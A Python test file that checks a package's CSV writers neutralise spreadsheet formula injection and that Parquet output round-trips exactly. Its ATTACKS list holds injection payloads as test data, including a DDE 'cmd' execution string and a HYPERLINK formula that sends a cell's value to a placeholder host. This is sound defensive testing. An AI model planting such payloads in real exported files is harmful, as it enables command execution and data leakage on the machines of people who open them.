"""Every CSV riskml writes is safe to open in a spreadsheet; Parquet stays exact."""

from __future__ import annotations

import csv

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from riskml.records import from_frames, neutralise_formulas, read, validate, write
from riskml.records._io import FORMATS
from riskml.records._spreadsheet import FORMULA_STARTS, restore_formulas
from records_fixtures import NOW

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"click")', "=2+5", "+1+1", "-2+3",
           "@SUM(A1:A9)", "\t=1", "\r=1", "'=already quoted"]


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _attacked(frames):
    pens = frames["penalties"].copy()
    pens.loc[: len(ATTACKS) - 1, "penalty_id"] = ATTACKS
    return dict(frames, penalties=pens)


def test_records_csv_cells_never_start_a_formula_and_read_back_exactly(frames, tmp_path):
    clean = validate(from_frames(_attacked(frames)), "strict", now=NOW)
    for fmt in FORMATS:
        folder = tmp_path / fmt
        write(clean, folder, format=fmt)
        if fmt == "csv":
            for path in folder.glob("*.csv"):
                assert not [c for c in _cells(path) if c.startswith(FORMULA_STARTS)], path.name
        again = validate(read(folder), "strict", now=NOW)
        assert again["penalties"]["penalty_id"].head(len(ATTACKS)).tolist() == ATTACKS
        for name, table in clean.tables.items():
            pd.testing.assert_frame_equal(again[name], table, check_dtype=False, check_categorical=False)


def test_numbers_are_not_quoted(tmp_path):
    frame = pd.DataFrame({"amount": [-5.0, 2.0], "n": [-1, 3], "id": ["-x", "y"]})
    out = neutralise_formulas(frame)
    assert out["amount"].tolist() == [-5.0, 2.0] and out["n"].tolist() == [-1, 3]
    assert out["id"].tolist() == ["'-x", "y"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(alphabet=st.sampled_from(list("=+-@\t\r'aZ1 |!\"")), max_size=6)),
                min_size=1, max_size=20))
def test_neutralising_is_safe_and_restoring_is_exact(values):
    frame = pd.DataFrame({"text": pd.Series(values, dtype="object")})
    safe = neutralise_formulas(frame)
    assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in safe["text"])
    back = restore_formulas(safe)["text"].tolist()
    assert [None if pd.isna(v) else v for v in back] == values


def test_the_inspection_plan_csv_is_neutralised(tmp_path):
    from typer.testing import CliRunner

    from riskml.cli import app

    scores = pd.DataFrame({"entity_id": ["=HYPERLINK(\"x\")", "@E2", "E3"], "as_of": pd.Timestamp("2024-01-01"),
                           "grade": ["D", "D", "D"], "probability": [0.5, 0.4, 0.3], "score": [500.0, 510.0, 520.0]})
    scores.to_parquet(tmp_path / "scores.parquet")
    result = CliRunner().invoke(app, ["plan", str(tmp_path / "scores.parquet"), "--records", str(tmp_path),
                                      "--rate", "D=1", "--out", str(tmp_path / "plan.csv")])
    assert result.exit_code == 0, result.output
    cells = _cells(tmp_path / "plan.csv")
    assert "'=HYPERLINK(\"x\")" in cells and "'@E2" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


# The writers whose result is safe to hand to ``DataFrame.to_csv``.
_NEUTRALISERS = {"neutralise_formulas", "spreadsheet_safe"}


def _unsafe_csv_writes(source: str) -> list[int]:
    """Lines of ``source`` calling ``.to_csv`` on anything but a neutralised frame."""
    import ast

    lines = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "to_csv":
            frame = node.func.value
            called = frame.func if isinstance(frame, ast.Call) else None
            name = getattr(called, "id", None) or getattr(called, "attr", None)
            if name not in _NEUTRALISERS:
                lines.append(node.lineno)
    return lines


def test_every_csv_riskml_writes_is_neutralised_first():
    """A new ``frame.to_csv(...)`` anywhere in riskml fails here: use ``write_csv``."""
    from pathlib import Path

    import riskml

    assert _unsafe_csv_writes("frame.to_csv('x.csv')") == [1]
    assert _unsafe_csv_writes("neutralise_formulas(frame).to_csv('x.csv')") == []
    package = Path(riskml.__file__).parent
    found = {str(p.relative_to(package)): lines for p in sorted(package.rglob("*.py"))
             if (lines := _unsafe_csv_writes(p.read_text(encoding="utf-8")))}
    assert found == {}, f"CSV written without neutralising formulas (use riskml.records._spreadsheet.write_csv): {found}"
